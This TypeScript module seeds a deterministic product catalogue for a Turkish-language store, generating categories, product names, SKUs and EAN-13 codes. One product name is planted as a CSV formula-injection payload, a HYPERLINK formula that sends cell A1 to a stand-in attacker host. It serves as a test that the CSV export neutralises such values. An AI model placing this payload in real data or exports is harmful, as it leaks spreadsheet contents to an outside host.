/**
 * The deterministic store catalogue: categories and products. Pure functions, so the seed,
 * the marketplace simulators and the tests all see the same products.
 */
import { seededRandom } from './random.ts';

export interface SeedCategory {
  categoryId: number;
  name: string;
}
export interface SeedProduct {
  productId: number;
  name: string;
  model: string;
  sku: string;
  ean: string;
  quantity: number;
  price: number;
  categoryId: number;
}

export const CATEGORY_NAMES = [
  'Elektronik',
  'Telefon & Aksesuar',
  'Bilgisayar',
  'Ev & Yaşam',
  'Mutfak',
  'Giyim',
  'Ayakkabı',
  'Çanta',
  'Kozmetik',
  'Kişisel Bakım',
  'Spor & Outdoor',
  'Oyuncak',
  'Kitap',
  'Kırtasiye',
  'Bahçe',
  'Yapı Market',
  'Otomotiv',
  'Pet Shop',
  'Anne & Bebek',
  'Süpermarket',
] as const;

const ADJECTIVES = ['Pro', 'Mini', 'Max', 'Eko', 'Lux', 'Smart', 'Klasik', 'Ultra', 'Comfort', 'Nova', 'Atlas', 'Vega'];
const NOUNS = [
  'Kulaklık',
  'Şarj Aleti',
  'Termos',
  'Sırt Çantası',
  'Tişört',
  'Koşu Ayakkabısı',
  'Blender',
  'Masa Lambası',
  'Defter',
  'Oyun Konsolu',
  'Kahve Makinesi',
  'Yoga Matı',
  'Parfüm',
  'Tava Seti',
  'Powerbank',
];

/** A product whose name starts like a spreadsheet formula: the CSV export must neutralise it. */
export const FORMULA_PRODUCT_ID = 13;
export const FORMULA_PRODUCT_NAME = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Kampanya")';

export const PRODUCT_COUNT = 520;

export function ean13(body12: string): string {
  const sum = [...body12].reduce((acc, d, i) => acc + Number(d) * (i % 2 === 0 ? 1 : 3), 0);
  return body12 + String((10 - (sum % 10)) % 10);
}

export function seedCategories(): SeedCategory[] {
  return CATEGORY_NAMES.map((name, i) => ({ categoryId: i + 1, name }));
}

export function seedProducts(): SeedProduct[] {
  const rnd = seededRandom(20240601);
  const out: SeedProduct[] = [];
  for (let id = 1; id <= PRODUCT_COUNT; id++) {
    const name =
      id === FORMULA_PRODUCT_ID
        ? FORMULA_PRODUCT_NAME
        : `${rnd.pick(ADJECTIVES)} ${rnd.pick(NOUNS)} ${String(id).padStart(3, '0')}`;
    out.push({
      productId: id,
      name,
      model: `MS-${String(id).padStart(4, '0')}`,
      sku: `MSK-${String(100000 + id * 7)}`,
      ean: ean13(`869${String(1000000 + id * 13).padStart(9, '0')}`),
      quantity: rnd.int(0, 250),
      price: Math.round(rnd.int(1990, 499990)) / 100,
      categoryId: ((id - 1) % CATEGORY_NAMES.length) + 1,
    });
  }
  return out;
}
